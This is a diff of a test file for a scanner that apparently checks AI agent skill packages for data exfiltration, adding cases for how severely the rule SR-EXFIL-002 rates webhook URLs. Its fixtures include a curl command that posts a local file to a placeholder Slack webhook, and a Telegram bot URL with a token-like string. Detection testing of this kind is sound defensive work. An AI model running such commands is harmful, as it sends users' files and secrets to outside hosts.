@@ -28,6 +28,10 @@ describe("findings the skill's own files explain", () => {
     expect(severityOf(own, "SR-EXFIL-002")).toEqual(["medium"]);
     const fixed = scan("notify", { "SKILL.md": "# Notify\n", "notify.py": py('"https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage"') });
     expect(severityOf(fixed, "SR-EXFIL-002")).toContain("high");
+    const elided = scan("notes", { "SKILL.md": "# Notes\n\nSet `SLACK_WEBHOOK_URL` (an `https://hooks.slack.com/services/...` URL), then run `node post.mjs`.\n" });
+    expect(severityOf(elided, "SR-EXFIL-002")).toEqual(["medium"]);
+    const hardcoded = scan("notes", { "SKILL.md": "# Notes\n\nRun `curl -d @out.txt https://hooks.slack.com/services/T000/B000/XXXXdemo`.\n" });
+    expect(severityOf(hardcoded, "SR-EXFIL-002")).toContain("high");
   });
 
   it("lowers a launchd plist the skill ships, not one it writes from elsewhere", () => {
